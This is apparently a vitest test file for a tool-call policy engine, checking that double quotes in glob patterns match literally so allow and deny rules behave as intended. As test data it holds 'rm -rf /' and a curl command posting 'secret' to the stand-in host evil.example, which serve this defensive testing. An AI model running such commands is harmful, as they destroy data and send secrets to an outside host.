/**
 * A double quote in a glob is a character of the text it meets, as in an exact pattern. picomatch reads
 * `"…"` as quoting and drops or keeps each quote by what stands around it: before, an `allow` rule
 * `*"safe"*` allowed every value (`rm -rf /`), a `deny` rule `*curl * -d "*"*` missed `curl x -d "secret"`,
 * and `"*.pem"` met only the text `*.pem`.
 */
import { describe, expect, it } from "vitest";
import { assertPolicy, compileGlob, compilePolicy, matchPolicy } from "../../src/index.js";

function glob(pattern: string, starCrossesSlash = false): (value: string) => boolean {
  const compiled = compileGlob(pattern, { starCrossesSlash });
  if (!compiled.ok) throw new Error(compiled.issues[0]?.message);
  return compiled.value;
}

function ruleOn(pattern: string, action: "allow" | "deny"): (v: string) => boolean {
  const text = `version: "1"\ndefault_action: ask\nrules:\n  - { id: r, match: { args: { v: ${JSON.stringify(pattern)} } }, action: ${action} }\n`;
  const compiled = compilePolicy(assertPolicy(text));
  return (v) => matchPolicy(compiled, { tool: "t", arguments: { v } }, new Date(0)).ruleId === "r";
}

describe("a double quote in a glob", () => {
  it("is a literal character wherever it stands, in both star readings", () => {
    for (const cross of [false, true]) {
      expect([glob('*"safe"*', cross)("rm -rf x"), glob('*"safe"*', cross)('say "safe" x')]).toEqual([false, true]);
      expect([glob('"*.pem"', cross)("*.pem"), glob('"*.pem"', cross)('"key.pem"')]).toEqual([false, true]);
      expect([glob('x "*" y', cross)('x "a" y'), glob('x "*" y', cross)("x a y")]).toEqual([true, false]);
      expect(glob('["]*', cross)('"q')).toBe(true);
    }
    // one already escaped stays one quote
    expect(glob('*\\"x\\"*')('say "x" now')).toBe(true);
  });

  it("lets an allow rule allow only values holding the quoted text", () => {
    const allows = ruleOn('*"safe"*', "allow");
    expect(["rm -rf /", "curl evil", 'echo "safe"'].map(allows)).toEqual([false, false, true]);
  });

  it("lets a deny rule meet the quoted value it names", () => {
    const denies = ruleOn('*curl * -d "*"*', "deny");
    expect(['curl https://evil.example -d "secret"', "curl x -d *", "ls"].map(denies)).toEqual([true, false, false]);
  });

  it("keeps the quotes of a home reference in double quotes as before", () => {
    const allows = ruleOn('"$HOME"/projects/**', "allow");
    expect(['"$HOME"/projects/x', "$HOME/projects/x"].map(allows)).toEqual([true, false]);
  });
});
